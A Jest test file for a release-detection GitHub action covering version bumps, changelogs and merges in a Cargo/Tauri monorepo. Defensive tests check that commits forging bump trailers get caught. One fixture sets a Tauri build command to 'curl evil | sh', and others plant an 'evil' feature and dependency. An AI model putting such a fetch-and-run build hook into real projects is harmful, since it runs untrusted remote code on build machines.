import { afterAll, describe, expect, test } from '@jest/globals'
import { runAction } from '../support/action.ts'
import type { CheckoutKind } from '../support/checkout-kinds.ts'
import { detect, push } from '../support/detect.ts'
import type { PlannedFiles } from '../support/fast-import.ts'
import type { History } from '../support/history.ts'
import { Plan } from '../support/plan.ts'

const histories: History[] = []
function make(plan: Plan): History {
  const history = plan.make()
  histories.push(history)
  return history
}
afterAll(() => {
  for (const history of histories) history.remove()
})

const CONFIG = `channels: [alpha, beta]
tracks:
  app: { tag: "v{version}", paths: [app, Cargo.lock], version-files: [app/Cargo.toml] }
  tray: { tag: "tray-v{version}", paths: [tray, Cargo.lock, manifests], version-files: [tray/Cargo.toml, tray/tauri.conf.json], updater: { manifest: "manifests/{channel}.json" } }
`
const cargo = (name: string, version: string, more = '') =>
  `[package]\nname = "${name}"\nversion = "${version}"\n${more}`
const tauri = (version: string, command = 'npm run build') =>
  `{ "version": "${version}", "build": { "beforeBuildCommand": "${command}" } }\n`
const lock = (app: string, tray: string, more = '') =>
  `version = 4\n\n[[package]]\nname = "app"\nversion = "${app}"\n\n[[package]]\nname = "tray"\nversion = "${tray}"\n${more}`
const APP = { 'app/Cargo.toml': cargo('app', '1.0.0') }
const TRAY = { 'tray/Cargo.toml': cargo('tray', '1.0.0'), 'tray/tauri.conf.json': tauri('1.0.0') }
const versioned = (version: string): PlannedFiles => ({
  'tray/Cargo.toml': cargo('tray', version),
  'tray/tauri.conf.json': tauri(version),
  'Cargo.lock': lock('1.0.0', version),
})
const BUMPED = versioned('1.0.1-alpha.1')
const TRAILERS = '\n\nRelease-Track: tray\nRelease-Channel: alpha\n'

/** Both products at live 1.0.0, on main and next. */
function begin(): Plan {
  const plan = new Plan()
  plan.commit('feat: begin', {
    'release-tracks.yml': CONFIG,
    ...APP,
    ...TRAY,
    'Cargo.lock': lock('1.0.0', '1.0.0'),
    'Cargo.toml': '[workspace]\nmembers = ["app", "tray"]\n',
    'app/a': '1\n',
    'app/b': '1\n',
    'tray/a': '1\n',
  })
  return plan.tag('v1.0.0').tag('tray-v1.0.0').branch('main')
}

/** What detection, promotion to a channel and the changelog say of a track: one answer. */
async function answers(history: History, track: string, channel = 'alpha', kind: CheckoutKind = 0) {
  const run = (action: string, inputs: Record<string, string>) =>
    runAction(action, history.checkout('refs/heads/next', kind), inputs)
  const [found, bump, notes] = await Promise.all([
    detect(history, { channel }, { kind }),
    run('bump-version', { tracks: track, channel, bump: 'auto', 'dry-run': 'true' }),
    run('component-changelog', { track, format: 'flat' }),
  ])
  const listed = notes.outputs.body?.match(/^- .*?(?= \()/gm)?.map((line) => line.slice(2)) ?? []
  const { base, reason } = found.report[track] as { base: string | null; reason: string }
  return { detected: found.tracks.includes(track), base, reason, tag: bump.outputs.tag, notes: listed }
}

const NOTHING = { detected: false, tag: '', notes: [] as string[] }
const KINDS: readonly CheckoutKind[] = [0, 1]

describe.each(KINDS)('incident 34: a commit that ends in copied trailers, in a checkout of kind %s', (kind) => {
  test.each<[string, PlannedFiles]>([
    [
      'a feature beside the version',
      { ...BUMPED, 'tray/Cargo.toml': `${cargo('tray', '1.0.1-alpha.1')}\n[features]\ndefault = ["evil"]\n` },
    ],
    [
      'a feature without a version',
      { 'tray/Cargo.toml': `${cargo('tray', '1.0.0')}\n[features]\ndefault = ["evil"]\n` },
    ],
    ['a command of the build', { ...BUMPED, 'tray/tauri.conf.json': tauri('1.0.1-alpha.1', 'curl evil | sh') }],
    [
      'a dependency in the lock',
      { ...BUMPED, 'Cargo.lock': lock('1.0.0', '1.0.1-alpha.1', '\n[[package]]\nname = "evil"\nversion = "1.0.0"\n') },
    ],
    [
      'a manifest that is none',
      { 'manifests/alpha.json': '{ "version": "1.0.1-alpha.1", "platforms": {}, "evil": 1 }\n' },
    ],
    ['an executable bit', { 'tray/Cargo.toml': { mode: '100755', text: cargo('tray', '1.0.1-alpha.1') } }],
  ])('that writes %s is a change: built, tested, released and named', async (_, files) => {
    const plan = begin()
    const commit = plan.commit(`feat: telemetry (#12)${TRAILERS}`, files)
    const history = make(plan.branch('next'))
    const pushed = await detect(history, { since: 'push' }, { ...push(history, 0, commit), kind })
    expect([pushed.tracks.includes('tray'), pushed.outputs['only-own']]).toEqual([true, 'false'])
    expect(await answers(history, 'tray', 'alpha', kind)).toMatchObject({
      detected: true,
      tag: 'tray-v1.1.0-alpha.1',
      notes: ['feat: telemetry'],
    })
  })

  test.each<[string, PlannedFiles, string?]>([
    ['a version in one of two version files', { 'tray/Cargo.toml': cargo('tray', '1.0.1-alpha.1') }],
    ['a lower version', versioned('0.9.9')],
    ['build metadata', versioned('9.9.9+build')],
    ["a bump under another product's name", BUMPED, TRAILERS.replace('tray', 'app')],
  ])('that writes %s is not a bump', async (_, files, trailers = TRAILERS) => {
    const plan = begin()
    const commit = plan.commit(`chore: bump tray to tray-v1.0.1-alpha.1${trailers}`, files)
    const history = make(plan.branch('next'))
    const pushed = await detect(history, { since: 'push' }, { ...push(history, 0, commit), kind })
    expect(pushed.outputs['only-own']).toBe('false')
  })

  test('a bump commit itself is none, also of a person who writes the same', async () => {
    const plan = begin()
    const commit = plan.commit(`chore: bump tray to tray-v1.0.1-alpha.1${TRAILERS}`, BUMPED)
    const own = make(plan.branch('next'))
    const pushed = await detect(own, { since: 'push' }, { ...push(own, 0, commit), kind })
    expect([pushed.tracks, pushed.outputs['only-own']]).toEqual([[], 'true'])
    for (const track of ['app', 'tray']) expect(await answers(own, track, 'alpha', kind)).toMatchObject(NOTHING)
    const other = begin()
    other.commit('chore: bump by hand', BUMPED)
    const byHand = make(other.branch('next'))
    expect(await answers(byHand, 'app', 'alpha', kind)).toMatchObject(NOTHING)
  })

  test('a merge that ends in them and writes what none of its sides has is a change', async () => {
    const plan = begin()
    const main = plan.commit('docs: on main', { README: 'x\n' }, 0)
    plan.branch('main')
    const next = plan.commit('docs: on next', { NOTES: 'x\n' }, 0)
    plan.commit('chore: sync\n\nRelease-Sync: main\n', { README: 'x\n', 'tray/a': 'evil\n' }, next, main)
    const found = await answers(make(plan.branch('next')), 'tray', 'alpha', kind)
    expect(found).toMatchObject({ detected: true, tag: 'tray-v1.0.1-alpha.1', notes: ['chore: sync'] })
  })
})

describe.each(KINDS)('incident 34: a merge that ends in copied trailers, checkout %s', (kind) => {
  const fixed = (plan: Plan) => {
    const begun = plan.commit('docs: begin', { NOTES: 'x\n' })
    plan.commit('fix: a hole', { 'tray/a': 'fixed\n' }, begun)
    const released = plan.commit('docs: released', { NOTES: 'y\n' })
    plan.tag('tray-v1.0.1-alpha.1')
    return { begun, released }
  }

  test('and takes a side from before a fix undoes the fix, which is a change', async () => {
    const plan = begin()
    const { begun, released } = fixed(plan)
    const side = plan.commit('chore: side\n\nRelease-Track: tray\n', {}, begun)
    plan.commit('Merge side\n\nRelease-Track: tray\n', { 'tray/a': '1\n' }, released, side)
    const found = await answers(make(plan.branch('next')), 'tray', 'alpha', kind)
    expect(found).toMatchObject({ detected: true, tag: 'tray-v1.0.1-alpha.2', notes: ['Merge side'] })
  })

  test('also where it names its own ancestor as the other side', async () => {
    const plan = begin()
    const { begun, released } = fixed(plan)
    plan.commit('Merge\n\nRelease-Sync: main\n', { 'tray/a': '1\n' }, released, begun)
    const found = await answers(make(plan.branch('next')), 'tray', 'alpha', kind)
    expect(found).toMatchObject({ detected: true, tag: 'tray-v1.0.1-alpha.2', notes: ['Merge'] })
  })
})

describe('one answer: what differs net from what the channel has', () => {
  test('incident 45: what a merge alone changed is detected, released and named', async () => {
    const plan = begin()
    const side = plan.commit('docs: side', { SIDE: 'x\n' })
    const next = plan.commit('docs: next', { NOTES: 'x\n' }, 0)
    plan.commit('Merge side', { SIDE: 'x\n', 'app/a': 'made in the merge\n' }, next, side)
    const history = make(plan.branch('next'))
    for (const kind of KINDS) {
      const found = await answers(history, 'app', 'alpha', kind)
      expect(found).toMatchObject({ detected: true, tag: 'v1.0.1-alpha.1', notes: ['Merge side'] })
    }
  })

  test.each(['app/b', 'app/a'])('what was taken back in %s raises no version and is in no notes', async (path) => {
    const plan = begin()
    plan.commit('feat!: x', { [path]: '2\n' })
    plan.commit('Revert "feat!: x"', { [path]: '1\n' })
    plan.commit('fix: y', { 'app/a': '3\n' })
    const found = await answers(make(plan.branch('next')), 'app')
    expect(found).toMatchObject({ detected: true, tag: 'v1.0.1-alpha.1', notes: ['fix: y'] })
  })

  /** A fix on next that has an alpha. */
  function withAlpha(): Plan {
    const plan = begin()
    plan.commit('fix: it', { 'app/a': 'fixed\n' })
    const files = { 'app/Cargo.toml': cargo('app', '1.0.1-alpha.1'), 'Cargo.lock': lock('1.0.1-alpha.1', '1.0.0') }
    plan.commit('chore: bump app to v1.0.1-alpha.1\n\nRelease-Track: app\nRelease-Channel: alpha\n', files)
    return plan.tag('v1.0.1-alpha.1')
  }
  const ALPHA: PlannedFiles = {
    'app/a': 'fixed\n',
    'app/Cargo.toml': cargo('app', '1.0.1-alpha.1'),
    'Cargo.lock': lock('1.0.1-alpha.1', '1.0.0'),
  }

  test.each<[string, string, PlannedFiles]>([
    ['a cherry-pick of it to main, synced', 'fix: it', { 'app/a': 'fixed\n' }],
    ['a squash of next into main, synced', 'fix: it (#7)', ALPHA],
    ['an old branch that brings the same', 'fix: the same', { 'app/a': 'fixed\n' }],
  ])('%s is nothing new, and the base that is named is the one that decides', async (_, message, files) => {
    const plan = withAlpha()
    const alpha = 2
    const main = plan.commit(message, files, 0)
    plan.branch('main').commit('Merge', {}, alpha, main)
    const history = make(plan.branch('next'))
    for (const kind of KINDS) {
      const found = await answers(history, 'app', 'alpha', kind)
      expect(found).toMatchObject({ ...NOTHING, base: 'v1.0.1-alpha.1' })
    }
  })

  test("a squash of next into main, synced, cuts nothing of the other product: the lock differs in the tray's lines alone", async () => {
    const plan = begin()
    plan.commit('fix: the tray', { 'tray/a': '2\n' })
    const alpha = plan.commit(`chore: bump tray to tray-v1.0.1-alpha.1${TRAILERS}`, BUMPED)
    plan.tag('tray-v1.0.1-alpha.1')
    const main = plan.commit('fix: the tray (#8)', { ...BUMPED, 'tray/a': '2\n' }, 0)
    plan.branch('main').commit('Merge', {}, alpha, main)
    const history = make(plan.branch('next'))
    for (const kind of KINDS) {
      for (const track of ['app', 'tray'])
        expect([track, await answers(history, track, 'alpha', kind)]).toEqual([track, expect.objectContaining(NOTHING)])
    }
  })

  test('a hotfix that went live reaches the alpha that is ahead of it', async () => {
    const plan = begin()
    const alpha = plan.commit('feat: more', { 'app/b': '2\n' })
    plan.tag('v1.1.0-alpha.1')
    const main = plan.commit('fix: at once', { 'app/a': 'fixed\n' }, 0)
    plan.tag('v1.0.1').branch('main').commit('chore: sync\n\nRelease-Sync: main\n', { 'app/a': 'fixed\n' }, alpha, main)
    const found = await answers(make(plan.branch('next')), 'app')
    expect(found).toMatchObject({ detected: true, base: 'v1.1.0-alpha.1', tag: 'v1.1.0-alpha.2' })
  })
})

describe('a channel that was overtaken or never used begins at what its users have', () => {
  test('an alpha from before two live versions is no base, at the live version and with a commit on top', async () => {
    const plan = begin()
    plan.commit('feat: a', { 'app/b': '2\n' })
    plan.tag('v3.0.0-alpha.1')
    for (const [at, version] of ['v3.0.0', 'v3.1.0'].entries())
      plan.commit(`feat: ${version}`, { 'app/b': `${at + 3}\n` }) && plan.tag(version)
    const history = make(plan.branch('next'))
    expect(await answers(history, 'app')).toMatchObject({ ...NOTHING, base: 'v3.1.0' })
    plan.commit('fix: on top', { 'app/a': 'top\n' })
    const found = await answers(make(plan.branch('next')), 'app')
    expect(found).toMatchObject({ tag: 'v3.1.1-alpha.1', reason: 'app/a changed since v3.1.0' })
  })

  test('a beta of an unchanged product is none, and its first one has what changed since live', async () => {
    const plan = begin()
    const unchanged = make(plan.branch('next'))
    expect(await answers(unchanged, 'app', 'beta')).toMatchObject({ ...NOTHING, base: 'v1.0.0' })
    plan.commit('fix: it', { 'app/a': '2\n' })
    const found = await answers(make(plan.tag('v1.0.1-alpha.1').branch('next')), 'app', 'beta')
    expect(found).toMatchObject({ detected: true, tag: 'v1.0.1-beta.1', reason: 'app/a changed since v1.0.0' })
  })
})

describe('since: push of what is proposed', () => {
  test.each(KINDS)(
    'a pull request and a merge queue count from what they lie upon, not from live (kind %s)',
    async (kind) => {
      const plan = begin()
      const old = plan.commit('feat: b, on next before', { 'tray/a': '2\n' })
      const head = plan.commit('feat: a, proposed', { 'app/a': '2\n' })
      const next = plan.commit('feat: b, on next since', { 'tray/a': '3\n' }, old)
      plan.branch('next')
      const merge = plan.commit('Merge', { 'app/a': '2\n' }, next, head)
      const history = make(plan.branch('pull'))
      const id = (number: number) => history.ids[number] as string
      const pull = { pull_request: { base: { sha: id(old) }, head: { sha: id(head) } } }
      const on = (name: string, payload: object, sha: number, ref: string, branch = 'pull') =>
        detect(
          history,
          { since: 'push' },
          { event: { name, payload }, ref, sha: id(sha), on: `refs/heads/${branch}`, kind },
        )
      const found = await Promise.all([
        on('pull_request', pull, merge, 'refs/pull/1/merge'),
        on('pull_request_target', pull, next, 'refs/heads/next', 'next'),
        on(
          'merge_group',
          { merge_group: { base_sha: id(next), head_sha: id(merge) } },
          merge,
          'refs/heads/gh-readonly-queue/next/pr-1',
        ),
      ])
      expect(found.map(({ tracks }) => tracks)).toEqual([['app'], ['app'], ['app']])
    },
  )
})
